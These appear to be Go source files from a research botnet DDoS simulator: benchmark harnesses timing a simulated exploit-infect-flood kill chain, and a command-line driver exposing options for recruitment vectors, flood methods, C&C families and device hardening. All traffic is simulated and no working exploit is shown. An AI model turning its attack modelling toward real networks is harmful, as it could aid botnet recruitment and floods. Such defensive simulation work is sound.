		AnalyzeMS:     analyzeMS,
		InventoryMS:   inventoryMS,
	}}
	// Per-analyzer rows: a fresh suite per measurement so memoized
	// engine Prepares never subsidize a later row.
	for i, a := range full {
		n, ms := measure([]lint.Analyzer{lint.DefaultSuite()[i]})
		after = append(after, lintRow{Analyzer: a.Name(), Analyzers: 1, Diags: n, AnalyzeMS: ms})
	}

	var legacy []lint.Analyzer
	for _, a := range lint.DefaultSuite() {
		if a.Name() != "allocfree" {
			legacy = append(legacy, a)
		}
	}
	n, ms := measure(legacy)
	before = []lintRow{{
		Packages:  len(pkgs),
		Analyzers: len(legacy),
		Diags:     n,
		LoadMS:    loadMS,
		AnalyzeMS: ms,
	}}
	return before, after, nil
}

// benchFlood measures the UDP flood send path — the hot loop behind
// every attack experiment — with and without flow accounting. One
// continuous src→dst stream, one padded datagram per 100 µs of sim
// time, mirroring internal/netsim's BenchmarkUDPFloodPath. With
// shards > 0 the same stream runs on the sharded kernel with src and
// dst on different shards, so every datagram crosses the mailbox.
func benchFlood(withFlows bool, shards int) floodRow {
	if shards > 0 {
		return benchFloodSharded(withFlows, shards)
	}
	const warmup, packets = 1_000, 200_000
	sched := sim.NewScheduler(1)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	var buf obs.FlowBuffer
	if withFlows {
		w.EnableFlows(netsim.FlowConfig{Sink: &buf})
	}
	src := star.AttachHost("src", 100*netsim.Mbps, sim.Millisecond, 64)
	dst := star.AttachHost("dst", 100*netsim.Mbps, sim.Millisecond, 64)
	if _, err := dst.BindUDP(80, nil); err != nil {
		panic(err)
	}
	sock, err := src.BindUDP(0, nil)
	if err != nil {
		panic(err)
	}
	target := netip.AddrPortFrom(dst.Addr4(), 80)

	now := sched.Now()
	step := func() {
		sock.SendPadded(target, nil, 512)
		now += 100 * sim.Microsecond
		if err := sched.Run(now); err != nil {
			panic(err)
		}
	}
	for i := 0; i < warmup; i++ {
		step()
	}
	start := time.Now()
	mallocs0 := mallocCount()
	for i := 0; i < packets; i++ {
		step()
	}
	mallocs := mallocCount() - mallocs0
	wall := time.Since(start)

	row := floodRow{
		Packets:         packets,
		FlowsEnabled:    withFlows,
		WallMS:          float64(wall.Microseconds()) / 1000,
		NSPerPacket:     float64(wall.Nanoseconds()) / float64(packets),
		AllocsPerPacket: float64(mallocs) / float64(packets),
	}
	if ft := w.Flows(); ft != nil {
		ft.Stop()
		ft.FlushAll(sched.Now())
		row.FlowsExported = ft.Stats().Exported
	}
	return row
}

// benchFloodSharded is benchFlood on the sharded kernel: the sender is
// a self-rescheduling event on src's shard (a ShardSet runs once, so
// the stream is driven from inside the kernel rather than by stepping
// the scheduler), and the router sits on dst's shard so the uplink hop
// crosses shards. The whole run is timed; there is no separate warmup
// segment, which washes out over 200k packets.
func benchFloodSharded(withFlows bool, shards int) floodRow {
	const packets = 200_000
	const lookahead = sim.Millisecond // the link delay below
	set := sim.NewShardSet(1, shards, lookahead, sim.QueueHeap)
	w := netsim.New(set.CtlSched())
	w.EnableSharding(set)

	dstShard := 1 % shards
	w.SetNextLP(set.NewLP(dstShard))
	star := netsim.NewStar(w)
	w.SetNextLP(set.NewLP(0))
	src := star.AttachHost("src", 100*netsim.Mbps, lookahead, 64)
	w.SetNextLP(set.NewLP(dstShard))
	dst := star.AttachHost("dst", 100*netsim.Mbps, lookahead, 64)
	var buf obs.FlowBuffer
	if withFlows {
		w.EnableFlows(netsim.FlowConfig{Sink: &buf})
	}

	var sock *netsim.UDPSocket
	set.WithLP(dst.LP(), func() {
		if _, err := dst.BindUDP(80, nil); err != nil {
			panic(err)
		}
	})
	set.WithLP(src.LP(), func() {
		var err error
		sock, err = src.BindUDP(0, nil)
		if err != nil {
			panic(err)
		}
		target := netip.AddrPortFrom(dst.Addr4(), 80)
		sent := 0
		var tick func()
		tick = func() {
			sock.SendPadded(target, nil, 512)
			sent++
			if sent < packets {
				src.Sched().Schedule(100*sim.Microsecond, tick)
			}
		}
		src.Sched().Schedule(0, tick)
	})

	start := time.Now()
	mallocs0 := mallocCount()
	// 100 µs per send, plus slack for the last packets to drain.
	if err := set.Run(sim.Time(packets)*100*sim.Microsecond + sim.Second); err != nil {
		panic(err)
	}
	mallocs := mallocCount() - mallocs0
	wall := time.Since(start)

	row := floodRow{
		Packets:         packets,
		FlowsEnabled:    withFlows,
		Shards:          shards,
		WallMS:          float64(wall.Microseconds()) / 1000,
		NSPerPacket:     float64(wall.Nanoseconds()) / float64(packets),
		AllocsPerPacket: float64(mallocs) / float64(packets),
	}
	if withFlows {
		w.StopFlows()
		w.FlushFlows(set.Now())
		row.FlowsExported = w.FlowTableStatsTotal().Exported
	}
	return row
}

// runKillChain times one complete build-exploit-infect-flood-measure
// cycle for a prepared config, reading the kernel cost breakdown from
// the run's own profiler and the allocation rate from the runtime's
// mallocs counter.
func runKillChain(cfg ddosim.Config) (killChainRow, error) {
	s, err := ddosim.New(cfg)
	if err != nil {
		return killChainRow{}, err
	}
	start := time.Now()
	mallocs0 := mallocCount()
	r, err := s.Run()
	if err != nil {
		return killChainRow{}, err
	}
	mallocs := mallocCount() - mallocs0
	wall := time.Since(start)

	sum := r.Obs
	row := killChainRow{
		Devs:            cfg.NumDevs,
		Seed:            cfg.Seed,
		Queue:           string(cfg.SchedQueue),
		Shards:          cfg.Shards,
		WallMS:          float64(wall.Microseconds()) / 1000,
		SimSeconds:      cfg.SimDuration.Seconds(),
		EventsProcessed: sum.EventsDelivered,
		PeakPending:     sum.PeakPending,
		WallNSPerSimSec: sum.WallNSPerSimSec,
		Infected:        r.Infected,
		DReceivedKbps:   r.DReceivedKbps,
		TraceEvents:     sum.TraceEvents,
	}
	if sum.EventsDelivered > 0 {
		row.AllocsPerEvent = float64(mallocs) / float64(sum.EventsDelivered)
	}
	if secs := wall.Seconds(); secs > 0 {
		row.EventsPerSec = float64(sum.EventsDelivered) / secs
	}
	return row, nil
}

// benchKillChain sweeps the kill chain over (devs, seed, queue backend,
// shard count). Shard count 0 is the classic single-queue kernel;
// counts >= 1 run the sharded parallel kernel, whose artifacts are
// byte-identical across the curve — only the wall-clock columns move.
func benchKillChain(devCounts []int, seeds int, shardCounts []int) ([]killChainRow, error) {
	var rows []killChainRow
	for _, devs := range devCounts {
		for seed := int64(1); seed <= int64(seeds); seed++ {
			for _, queue := range []ddosim.QueueKind{ddosim.QueueHeap, ddosim.QueueCalendar} {
				for _, shards := range shardCounts {
					cfg := ddosim.DefaultConfig(devs)
					cfg.Seed = seed
					cfg.SchedQueue = queue
					cfg.Shards = shards
					cfg.SimDuration = 300 * ddosim.Second
					cfg.AttackDuration = 30
					cfg.RecruitTimeout = 60 * ddosim.Second

					row, err := runKillChain(cfg)
					if err != nil {
						return nil, err
					}
					rows = append(rows, row)
				}
			}
		}
	}
	return rows, nil
}

// benchMegaKillChain is the large-fleet variant: one reduced-horizon
// run per kernel (classic, and the largest sharded count from the
// curve) at fleets where the full 300 s horizon would take hours. The
// horizon is cut to 60 s with a 30 s recruit timeout — the attack
// order fires at the timeout regardless of recruitment progress, so
// the row still exercises the complete kill chain — and the
// time-series window is widened so windowed telemetry stays bounded.
func benchMegaKillChain(devs int, shardCounts []int) ([]killChainRow, error) {
	maxShards := 0
	for _, s := range shardCounts {
		if s > maxShards {
			maxShards = s
		}
	}
	kernels := []int{0}
	if maxShards > 0 {
		kernels = append(kernels, maxShards)
	}
	var rows []killChainRow
	for _, shards := range kernels {
		cfg := ddosim.DefaultConfig(devs)
		cfg.Seed = 1
		cfg.Shards = shards
		cfg.SimDuration = 60 * ddosim.Second
		cfg.AttackDuration = 10
		cfg.RecruitTimeout = 30 * ddosim.Second
		cfg.WindowSize = 5 * ddosim.Second
		if devs >= 100_000 {
			// Event volume is ~devs × horizon; at these fleets the 60 s
			// horizon costs hours on one core. 20 s still covers boot,
			// recruit-timeout attack order, and a 5 s flood window.
			cfg.SimDuration = 20 * ddosim.Second
			cfg.RecruitTimeout = 10 * ddosim.Second
			cfg.AttackDuration = 5
			cfg.WindowSize = 10 * ddosim.Second
		}

		row, err := runKillChain(cfg)
		if err != nil {
			return nil, err
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// mallocCount reads the runtime's cumulative heap-allocation counter.
func mallocCount() uint64 {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.Mallocs
}

// benchScheduler measures raw kernel throughput: a chain of
// self-rescheduling no-op events, the simulator's fundamental cost
// floor.
func benchScheduler() []schedRow {
	var rows []schedRow
	for _, events := range []int{100_000, 1_000_000} {
		for _, queue := range []sim.QueueKind{sim.QueueHeap, sim.QueueCalendar} {
			sched := sim.NewSchedulerQueue(1, queue)
			left := events
			var tick func()
			tick = func() {
				left--
				if left > 0 {
					sched.Schedule(sim.Microsecond, tick)
				}
			}
			sched.Schedule(0, tick)
			start := time.Now()
			mallocs0 := mallocCount()
			if err := sched.RunAll(); err != nil {
				continue
			}
			mallocs := mallocCount() - mallocs0
			wall := time.Since(start)
			row := schedRow{
				Events:         events,
				Queue:          string(queue),
				WallMS:         float64(wall.Microseconds()) / 1000,
				AllocsPerEvent: float64(mallocs) / float64(events),
			}
			if secs := wall.Seconds(); secs > 0 {
				row.EventsPerSec = float64(events) / secs
				row.NSPerEvent = float64(wall.Nanoseconds()) / float64(events)
			}
			rows = append(rows, row)
		}
	}
	return rows
}

func writeSuite(dir, file, name string, rows any) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	path := filepath.Join(dir, file)
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(suite{Name: name, GoVersion: runtime.Version(), Rows: rows}); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	fmt.Printf("wrote %s\n", path)
	return nil
}
