// Command benchjson runs the repository's benchmark workloads at
// reduced scale and writes machine-readable BENCH_*.json files — the
// CI-friendly counterpart of `go test -bench`. Each file holds one
// suite: the end-to-end kill chain across fleet sizes (with the
// observability layer's own accounting of where kernel time went),
// the raw discrete-event kernel throughput, and the UDP-flood send
// path with flow accounting off vs on.
//
// Examples:
//
//	benchjson                 # write BENCH_killchain.json, BENCH_scheduler.json, BENCH_flood.json, BENCH_lint.json
//	benchjson -out results/   # write them elsewhere
//	benchjson -devs 10,50,100 -seeds 3
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"ddosim/ddosim"
	"ddosim/internal/lint"
	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/sim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}

// killChainRow is one end-to-end measurement: simulation outcomes plus
// the cost of producing them.
type killChainRow struct {
	Devs            int     `json:"devs"`
	Seed            int64   `json:"seed"`
	Queue           string  `json:"queue"`
	WallMS          float64 `json:"wall_ms"`
	SimSeconds      float64 `json:"sim_seconds"`
	EventsProcessed uint64  `json:"events_processed"`
	EventsPerSec    float64 `json:"events_per_wall_sec"`
	PeakPending     int     `json:"peak_pending"`
	WallNSPerSimSec int64   `json:"wall_ns_per_sim_sec"`
	AllocsPerEvent  float64 `json:"allocs_per_event"`
	Infected        int     `json:"infected"`
	DReceivedKbps   float64 `json:"d_received_kbps"`
	TraceEvents     int     `json:"trace_events"`
}

// schedRow is one kernel-throughput measurement: a self-rescheduling
// event chain with no simulation payload.
type schedRow struct {
	Events         int     `json:"events"`
	Queue          string  `json:"queue"`
	WallMS         float64 `json:"wall_ms"`
	EventsPerSec   float64 `json:"events_per_wall_sec"`
	NSPerEvent     float64 `json:"ns_per_event"`
	AllocsPerEvent float64 `json:"allocs_per_event"`
}

// floodRow is one UDP-flood hot-path measurement: per-packet cost of
// the send path with flow accounting off vs on.
type floodRow struct {
	Packets         int     `json:"packets"`
	FlowsEnabled    bool    `json:"flows_enabled"`
	WallMS          float64 `json:"wall_ms"`
	NSPerPacket     float64 `json:"ns_per_packet"`
	AllocsPerPacket float64 `json:"allocs_per_packet"`
	FlowsExported   uint64  `json:"flows_exported"`
}

type suite struct {
	Name      string `json:"name"`
	GoVersion string `json:"go_version"`
	Rows      any    `json:"rows"`
}

func run() error {
	var (
		outDir   = flag.String("out", ".", "directory to write BENCH_*.json into")
		devsList = flag.String("devs", "10,30,50", "comma-separated fleet sizes for the kill-chain suite")
		seeds    = flag.Int("seeds", 1, "seeds per fleet size")
	)
	flag.Parse()

	var devCounts []int
	for _, s := range strings.Split(*devsList, ",") {
		n, err := strconv.Atoi(strings.TrimSpace(s))
		if err != nil {
			return fmt.Errorf("bad -devs entry %q: %w", s, err)
		}
		devCounts = append(devCounts, n)
	}

	kill, err := benchKillChain(devCounts, *seeds)
	if err != nil {
		return err
	}
	if err := writeSuite(*outDir, "BENCH_killchain.json", "killchain", kill); err != nil {
		return err
	}
	if err := writeSuite(*outDir, "BENCH_scheduler.json", "scheduler", benchScheduler()); err != nil {
		return err
	}
	// The flood suite writes its own before/after pair: _before pins
	// the send path without flow accounting, the main file carries both
	// variants so the overhead is a one-file diff.
	off, on := benchFlood(false), benchFlood(true)
	if err := writeSuite(*outDir, "BENCH_flood_before.json", "flood", []floodRow{off}); err != nil {
		return err
	}
	if err := writeSuite(*outDir, "BENCH_flood.json", "flood", []floodRow{off, on}); err != nil {
		return err
	}
	// The lint suite analyzes the module's own source, so it only runs
	// when benchjson is invoked from inside the repo; elsewhere the
	// other suites still work.
	if lintRows, err := benchLint(); err != nil {
		fmt.Fprintf(os.Stderr, "benchjson: skipping lint suite: %v\n", err)
	} else if err := writeSuite(*outDir, "BENCH_lint.json", "lint", lintRows); err != nil {
		return err
	}
	return nil
}

// lintRow is one static-analysis measurement: the cost of loading and
// type-checking the module vs the cost of the analyzers themselves
// (the shard-confinement engine dominates the latter).
type lintRow struct {
	Packages      int     `json:"packages"`
	Analyzers     int     `json:"analyzers"`
	Diags         int     `json:"diags"`
	InventoryRows int     `json:"inventory_rows"`
	LoadMS        float64 `json:"load_ms"`
	AnalyzeMS     float64 `json:"analyze_ms"`
	InventoryMS   float64 `json:"inventory_ms"`
}

// benchLint runs the full default suite over the whole module — the
// same work `go run ./cmd/simlint ./...` does in CI — and the
// inventory build on top of it.
func benchLint() ([]lintRow, error) {
	l, err := lint.NewLoader(".")
	if err != nil {
		return nil, err
	}
	start := time.Now()
	pkgs, err := l.LoadAll(".")
	if err != nil {
		return nil, err
	}
	loadMS := float64(time.Since(start).Microseconds()) / 1000

	suite := lint.DefaultSuite()
	start = time.Now()
	diags := lint.Run(pkgs, suite)
	analyzeMS := float64(time.Since(start).Microseconds()) / 1000

	start = time.Now()
	inv := lint.BuildInventory(pkgs)
	inventoryMS := float64(time.Since(start).Microseconds()) / 1000

	return []lintRow{{
		Packages:      len(pkgs),
		Analyzers:     len(suite),
		Diags:         len(diags),
		InventoryRows: len(inv),
		LoadMS:        loadMS,
		AnalyzeMS:     analyzeMS,
		InventoryMS:   inventoryMS,
	}}, nil
}

// benchFlood measures the UDP flood send path — the hot loop behind
// every attack experiment — with and without flow accounting. One
// continuous src→dst stream, one padded datagram per 100 µs of sim
// time, mirroring internal/netsim's BenchmarkUDPFloodPath.
func benchFlood(withFlows bool) floodRow {
	const warmup, packets = 1_000, 200_000
	sched := sim.NewScheduler(1)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	var buf obs.FlowBuffer
	if withFlows {
		w.EnableFlows(netsim.FlowConfig{Sink: &buf})
	}
	src := star.AttachHost("src", 100*netsim.Mbps, sim.Millisecond, 64)
	dst := star.AttachHost("dst", 100*netsim.Mbps, sim.Millisecond, 64)
	if _, err := dst.BindUDP(80, nil); err != nil {
		panic(err)
	}
	sock, err := src.BindUDP(0, nil)
	if err != nil {
		panic(err)
	}
	target := netip.AddrPortFrom(dst.Addr4(), 80)

	now := sched.Now()
	step := func() {
		sock.SendPadded(target, nil, 512)
		now += 100 * sim.Microsecond
		if err := sched.Run(now); err != nil {
			panic(err)
		}
	}
	for i := 0; i < warmup; i++ {
		step()
	}
	start := time.Now()
	mallocs0 := mallocCount()
	for i := 0; i < packets; i++ {
		step()
	}
	mallocs := mallocCount() - mallocs0
	wall := time.Since(start)

	row := floodRow{
		Packets:         packets,
		FlowsEnabled:    withFlows,
		WallMS:          float64(wall.Microseconds()) / 1000,
		NSPerPacket:     float64(wall.Nanoseconds()) / float64(packets),
		AllocsPerPacket: float64(mallocs) / float64(packets),
	}
	if ft := w.Flows(); ft != nil {
		ft.Stop()
		ft.FlushAll(sched.Now())
		row.FlowsExported = ft.Stats().Exported
	}
	return row
}

// benchKillChain times one complete build-exploit-infect-flood-measure
// cycle per (devs, seed, queue backend), reading the kernel cost
// breakdown from the run's own profiler and the allocation rate from
// the runtime's mallocs counter.
func benchKillChain(devCounts []int, seeds int) ([]killChainRow, error) {
	var rows []killChainRow
	for _, devs := range devCounts {
		for seed := int64(1); seed <= int64(seeds); seed++ {
			for _, queue := range []ddosim.QueueKind{ddosim.QueueHeap, ddosim.QueueCalendar} {
				cfg := ddosim.DefaultConfig(devs)
				cfg.Seed = seed
				cfg.SchedQueue = queue
				cfg.SimDuration = 300 * ddosim.Second
				cfg.AttackDuration = 30
				cfg.RecruitTimeout = 60 * ddosim.Second

				s, err := ddosim.New(cfg)
				if err != nil {
					return nil, err
				}
				start := time.Now()
				mallocs0 := mallocCount()
				r, err := s.Run()
				if err != nil {
					return nil, err
				}
				mallocs := mallocCount() - mallocs0
				wall := time.Since(start)

				sum := r.Obs
				row := killChainRow{
					Devs:            devs,
					Seed:            seed,
					Queue:           string(queue),
					WallMS:          float64(wall.Microseconds()) / 1000,
					SimSeconds:      cfg.SimDuration.Seconds(),
					EventsProcessed: sum.EventsDelivered,
					PeakPending:     sum.PeakPending,
					WallNSPerSimSec: sum.WallNSPerSimSec,
					Infected:        r.Infected,
					DReceivedKbps:   r.DReceivedKbps,
					TraceEvents:     sum.TraceEvents,
				}
				if sum.EventsDelivered > 0 {
					row.AllocsPerEvent = float64(mallocs) / float64(sum.EventsDelivered)
				}
				if secs := wall.Seconds(); secs > 0 {
					row.EventsPerSec = float64(sum.EventsDelivered) / secs
				}
				rows = append(rows, row)
			}
		}
	}
	return rows, nil
}

// mallocCount reads the runtime's cumulative heap-allocation counter.
func mallocCount() uint64 {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.Mallocs
}

// benchScheduler measures raw kernel throughput: a chain of
// self-rescheduling no-op events, the simulator's fundamental cost
// floor.
func benchScheduler() []schedRow {
	var rows []schedRow
	for _, events := range []int{100_000, 1_000_000} {
		for _, queue := range []sim.QueueKind{sim.QueueHeap, sim.QueueCalendar} {
			sched := sim.NewSchedulerQueue(1, queue)
			left := events
			var tick func()
			tick = func() {
				left--
				if left > 0 {
					sched.Schedule(sim.Microsecond, tick)
				}
			}
			sched.Schedule(0, tick)
			start := time.Now()
			mallocs0 := mallocCount()
			if err := sched.RunAll(); err != nil {
				continue
			}
			mallocs := mallocCount() - mallocs0
			wall := time.Since(start)
			row := schedRow{
				Events:         events,
				Queue:          string(queue),
				WallMS:         float64(wall.Microseconds()) / 1000,
				AllocsPerEvent: float64(mallocs) / float64(events),
			}
			if secs := wall.Seconds(); secs > 0 {
				row.EventsPerSec = float64(events) / secs
				row.NSPerEvent = float64(wall.Nanoseconds()) / float64(events)
			}
			rows = append(rows, row)
		}
	}
	return rows
}

func writeSuite(dir, file, name string, rows any) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	path := filepath.Join(dir, file)
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(suite{Name: name, GoVersion: runtime.Version(), Rows: rows}); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	fmt.Printf("wrote %s\n", path)
	return nil
}
