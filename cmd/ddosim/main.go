// Command ddosim runs a single botnet DDoS simulation and reports its
// measurements.
//
// Examples:
//
//	ddosim -devs 50
//	ddosim -devs 100 -churn dynamic -duration 200 -seed 3
//	ddosim -devs 20 -hardened            # PIE fleet: recruitment fails
//	ddosim -devs 30 -json                # machine-readable output
//	ddosim -devs 30 -timeline            # full kill-chain event log
//	ddosim -devs 30 -trace run.trace.json   # open in Perfetto / chrome://tracing
//	ddosim -devs 30 -metrics-out run.prom   # Prometheus-style counter dump
//	ddosim -devs 30 -flows-out run.flows.csv -ts-out run.ts.csv   # labeled flow dataset + windowed metrics
//	ddosim -devs 30 -faults intensity=0.5   # canonical fault scenario, half strength
//	ddosim -devs 30 -faults 'flap:period=60s,down=5s;crash:period=120s' -cnc-replay
//	ddosim -devs 30 -botnet p2p              # decentralized family: Kademlia overlay, signed records
//	ddosim -devs 30 -botnet p2p -faults 'cnc:takedown=30s'   # permanent takedown mid-attack
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"ddosim/ddosim"
	"ddosim/internal/report"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "ddosim:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		devs      = flag.Int("devs", 50, "number of Dev containers")
		churnMode = flag.String("churn", "none", "churn mode: none|static|dynamic")
		duration  = flag.Int("duration", 100, "attack duration in seconds")
		simSecs   = flag.Int("sim", 600, "NS-3 simulation horizon in seconds")
		seed      = flag.Int64("seed", 1, "random seed")
		frac      = flag.Float64("connman-frac", 0.5, "fraction of Devs running Connman (rest Dnsmasq)")
		payload   = flag.Int("payload", 512, "UDP-PLAIN payload bytes")
		method    = flag.String("method", "udpplain", "attack method: udpplain|syn|ack")
		overV6    = flag.Bool("ipv6", false, "flood TServer's IPv6 address")
		vector    = flag.String("vector", "memory", "recruitment vector: memory|credentials")
		weakCreds = flag.Float64("weak-creds", 1.0, "credentials vector: fraction of Devs with dictionary credentials")
		hardened  = flag.Bool("hardened", false, "use PIE rebuilds of the Dev daemons")
		canary    = flag.Float64("canary", 0, "fraction of Devs built with a stack protector")
		noCurl    = flag.Bool("remove-curl", false, "strip curl/wget from Dev firmware (§IV-C insight)")
		asJSON    = flag.Bool("json", false, "emit JSON (with series and timeline) instead of text")
		outDir    = flag.String("out", "", "directory to write series.csv and timeline.csv into")
		timeline  = flag.Bool("timeline", false, "print the full event timeline")
		spark     = flag.Bool("sparkline", false, "print a sparkline of the per-second rate")
		traceOut  = flag.String("trace", "", "write the run trace to this file (Chrome trace_event JSON; a .jsonl extension selects JSONL)")
		promOut   = flag.String("metrics-out", "", "write a Prometheus-style metrics dump to this file")
		flowsOut  = flag.String("flows-out", "", "write the labeled NetFlow-style flow records to this file (CSV; a .jsonl extension selects JSONL)")
		tsOut     = flag.String("ts-out", "", "write the windowed time-series metrics to this file (CSV; a .jsonl extension selects JSONL)")
		window    = flag.Float64("window", 1, "time-series window size in seconds")
		schedQ    = flag.String("sched-queue", "heap", "event-queue backend: heap|calendar (byte-identical results, speed only)")
		shards    = flag.Int("shards", 0, "logical-process shards for the parallel kernel (0 = classic single-queue kernel; results are byte-identical across shard counts >= 1)")
		faultSpec = flag.String("faults", "", "fault-injection spec: \"intensity=0.5\" or \"kind:key=val,...;...\" (kinds: flap|loss|degrade|crash|cnc|sink)")
		cncReplay = flag.Bool("cnc-replay", false, "C&C replays the attack order (trimmed) to bots that register during the attack window")
		botnet    = flag.String("botnet", "mirai", "botnet family: mirai (centralized C&C) | p2p (Kademlia overlay, signed command records)")
		cmdWave   = flag.Float64("command-wave", 0, "mirai only: re-send the attack order every this many seconds until the window ends (0 = single shot)")
	)
	flag.Parse()

	cfg := ddosim.DefaultConfig(*devs)
	cfg.Seed = *seed
	cfg.AttackDuration = *duration
	cfg.SimDuration = ddosim.Time(*simSecs) * ddosim.Second
	cfg.ConnmanFraction = *frac
	cfg.PayloadBytes = *payload
	cfg.AttackMethod = *method
	cfg.AttackOverIPv6 = *overV6
	cfg.Hardened = *hardened
	cfg.CanaryFraction = *canary
	cfg.RemoveCurl = *noCurl
	switch *vector {
	case "memory", "":
		cfg.Vector = ddosim.VectorMemoryError
	case "credentials", "creds":
		cfg.Vector = ddosim.VectorCredentials
		cfg.WeakCredFraction = *weakCreds
		// Scanning recruitment is much slower than the exploit
		// channels; give it most of the horizon before the order.
		if timeout := cfg.SimDuration - ddosim.Time(*duration+60)*ddosim.Second; timeout > cfg.RecruitTimeout {
			cfg.RecruitTimeout = timeout
		}
	default:
		return fmt.Errorf("unknown vector %q (memory|credentials)", *vector)
	}
	mode, err := ddosim.ParseChurnMode(*churnMode)
	if err != nil {
		return err
	}
	cfg.Churn = mode
	kind, err := ddosim.ParseQueueKind(*schedQ)
	if err != nil {
		return err
	}
	cfg.SchedQueue = kind
	if *shards < 0 {
		return fmt.Errorf("shards must be >= 0, got %d", *shards)
	}
	cfg.Shards = *shards
	fc, err := ddosim.ParseFaultSpec(*faultSpec)
	if err != nil {
		return err
	}
	cfg.Faults = fc
	cfg.CNCReplayAttack = *cncReplay
	switch *botnet {
	case "mirai", "":
		cfg.Botnet = ddosim.BotnetMirai
	case "p2p":
		cfg.Botnet = ddosim.BotnetP2P
	default:
		return fmt.Errorf("unknown botnet family %q (mirai|p2p)", *botnet)
	}
	if *cmdWave < 0 {
		return fmt.Errorf("command-wave must be >= 0, got %v", *cmdWave)
	}
	cfg.CommandWave = ddosim.Time(*cmdWave * float64(ddosim.Second))
	if *window <= 0 {
		return fmt.Errorf("window size must be positive, got %v", *window)
	}
	cfg.WindowSize = ddosim.Time(*window * float64(ddosim.Second))

	sim, err := ddosim.New(cfg)
	if err != nil {
		return err
	}
	r, err := sim.Run()
	if err != nil {
		return err
	}

	if *traceOut != "" {
		write := sim.Obs().Trace.WriteChromeTrace
		if strings.HasSuffix(*traceOut, ".jsonl") {
			write = sim.Obs().Trace.WriteJSONL
		}
		if err := writeTo(*traceOut, write); err != nil {
			return fmt.Errorf("write trace: %w", err)
		}
	}
	if *promOut != "" {
		if err := writeTo(*promOut, sim.Obs().Metrics.WritePrometheus); err != nil {
			return fmt.Errorf("write metrics: %w", err)
		}
	}
	if *flowsOut != "" {
		write := sim.Flows().WriteCSV
		if strings.HasSuffix(*flowsOut, ".jsonl") {
			write = sim.Flows().WriteJSONL
		}
		if err := writeTo(*flowsOut, write); err != nil {
			return fmt.Errorf("write flows: %w", err)
		}
	}
	if *tsOut != "" {
		write := sim.Windows().WriteCSV
		if strings.HasSuffix(*tsOut, ".jsonl") {
			write = sim.Windows().WriteJSONL
		}
		if err := writeTo(*tsOut, write); err != nil {
			return fmt.Errorf("write time series: %w", err)
		}
	}

	if *asJSON {
		return report.FromResults(cfg, r, true).WriteJSON(os.Stdout)
	}
	if *outDir != "" {
		if err := writeArtifacts(*outDir, cfg, r); err != nil {
			return err
		}
	}
	fmt.Printf("DDoSim run: %d devs, %s, %ds attack, seed %d\n\n", *devs, mode, *duration, *seed)
	fmt.Print(r.Summary())
	if *spark && len(r.PerSecondKbps) > 0 {
		from := int64(r.AttackIssuedAt / ddosim.Second)
		fmt.Printf("\nrate: %s\n", sim.Sink().Series().Sparkline(from, from+int64(*duration)))
	}
	if *timeline {
		fmt.Println("\ntimeline:")
		for _, e := range r.Timeline.Events() {
			fmt.Printf("  %10s  %-15s %s\n", e.At, e.Kind, e.Actor)
		}
	}
	return nil
}

// writeTo streams one observability artifact into a freshly created
// file, keeping the close error (the last write may be buffered).
func writeTo(path string, write func(io.Writer) error) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := write(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func writeArtifacts(dir string, cfg ddosim.Config, r *ddosim.Results) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	series := report.SeriesCSV(r.PerSecondKbps, report.WindowStart(r))
	if err := os.WriteFile(filepath.Join(dir, "series.csv"), []byte(series), 0o644); err != nil {
		return err
	}
	timeline := report.TimelineCSV(r.Timeline)
	if err := os.WriteFile(filepath.Join(dir, "timeline.csv"), []byte(timeline), 0o644); err != nil {
		return err
	}
	fmt.Printf("wrote %s and %s\n", filepath.Join(dir, "series.csv"), filepath.Join(dir, "timeline.csv"))
	return nil
}
