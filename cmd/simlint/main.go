// Command simlint runs DDoSim's determinism and simulation-safety
// static analysis suite (internal/lint) over the module.
//
// Usage:
//
//	go run ./cmd/simlint [-json] [-list] [-analyzer a,b] [-unused-allows] [-inventory out.json] [pattern ...]
//
// Patterns follow go-tool shape: "./..." (the default) lints every
// package in the module, "./internal/netsim/..." a subtree, and
// "./internal/netsim" a single package. -analyzer restricts the run
// to a comma-separated subset of the suite (see -list for names; the
// listing is generated from the registered suite, so it cannot drift
// from the analyzers that actually run). -unused-allows additionally
// reports every //simlint:allow annotation that suppressed nothing —
// the stale-suppression audit; it requires the full suite, since a
// subset run cannot judge annotations it never exercised. -inventory
// writes the analysis inventory — every shared-state site reachable
// from a scheduler callback and every allocation site reachable from
// a declared hot path (//simlint:hotpath or a seeded root), classed
// as violation, allowed, boundary, barrier, or hotpath, with its
// reachability chain — as JSON to the given path ("-" for stdout).
// Diagnostics print as "file:line:col analyzer: message" with paths
// relative to the module root, in a stable total order —
// (file, line, col, analyzer, message) — in both text and -json
// output, so CI logs and golden files diff cleanly run over run. The
// exit status is 0 when clean, 1 when findings exist, and 2 on load
// or usage errors — so CI can gate merges on it.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"ddosim/internal/lint"
)

func main() {
	os.Exit(run())
}

func run() int {
	jsonOut := flag.Bool("json", false, "emit diagnostics as a JSON array")
